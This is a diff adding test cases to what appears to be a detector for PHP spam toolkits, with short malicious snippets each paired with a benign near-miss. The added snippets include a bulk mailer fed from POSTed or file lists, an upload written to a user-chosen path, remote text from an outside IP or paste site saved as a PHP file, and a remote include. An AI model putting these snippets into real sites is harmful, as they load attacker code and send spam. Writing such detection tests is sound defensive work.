@@ -147,6 +147,40 @@ FINGERPRINT_NEAR = (
     b"mail(get_option('admin_email'), 'diagnostics', $m);\n"
 )
 
+PM_BULK = (
+    b"<?php\nrequire 'PHPMailer/PHPMailerAutoload.php';\n"
+    b"$list = explode(\"\\n\", $_POST['emaillist']);\nforeach ($list as $to) {\n"
+    b"  $m = new PHPMailer();\n  $m->Subject = $_POST['subject'];\n"
+    b"  $m->addAddress(trim($to));\n  $m->send();\n}\n"
+)
+PM_BULK_FILE = (
+    b"<?php\nuse PHPMailer\\PHPMailer\\PHPMailer;\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n"
+    b"foreach (file('leads.txt') as $to) { $m->clearAddresses(); $m->AddAddress($to); $m->Send(); }\n"
+)
+PM_BULK_NEAR = (
+    b"<?php\n$m = new PHPMailer();\nforeach ($order->recipients() as $to) {\n"
+    b"  $m->addAddress($to);\n}\n$m->Subject = 'Your order';\n$m->send();\n"
+)
+
+UPLOAD_INPUT_PATH = (
+    b"<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);\n"
+)
+UPLOAD_INPUT_PATH_NEAR = (
+    b"<?php\n$dest = UPLOAD_DIR . '/' . bin2hex(random_bytes(8)) . '.jpg';\n"
+    b"move_uploaded_file($_FILES['f']['tmp_name'], $dest);\n"
+)
+
+REMOTE_TO_PHP = (
+    b"<?php\nfile_put_contents($dir . '/wp-cache.php', file_get_contents('http://203.0.113.7/s.txt'));\n"
+)
+REMOTE_TO_PHP_COPY = b"<?php\ncopy('https://paste.example.net/raw/x1', 'db-config.php');\n"
+REMOTE_TO_PHP_NEAR = (
+    b"<?php\nfile_put_contents($cache . '/feed.xml', file_get_contents('https://example.org/feed'));\n"
+)
+
+REMOTE_INCLUDE = b"<?php\ninclude 'http://203.0.113.7/x.txt';\n"
+REMOTE_INCLUDE_NEAR = b"<?php\ninclude __DIR__ . '/http-client.php';\n// see https://example.org/doc\n"
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_DIRECT, True),
     ("SPAMGEAR_TOOLKIT_DirListingOfInput", DIR_VIA_FUNC, True),
@@ -181,4 +215,14 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_MailedShellLocation", SHELL_LOCATION_NEAR, False),
     ("SPAMGEAR_TOOLKIT_MailedHostFingerprint", FINGERPRINT, True),
     ("SPAMGEAR_TOOLKIT_MailedHostFingerprint", FINGERPRINT_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK, True),
+    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK_FILE, True),
+    ("SPAMGEAR_TOOLKIT_PhpMailerBulkFromList", PM_BULK_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_UploadToInputPath", UPLOAD_INPUT_PATH, True),
+    ("SPAMGEAR_TOOLKIT_UploadToInputPath", UPLOAD_INPUT_PATH_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP, True),
+    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_COPY, True),
+    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE, True),
+    ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE_NEAR, False),
 ]
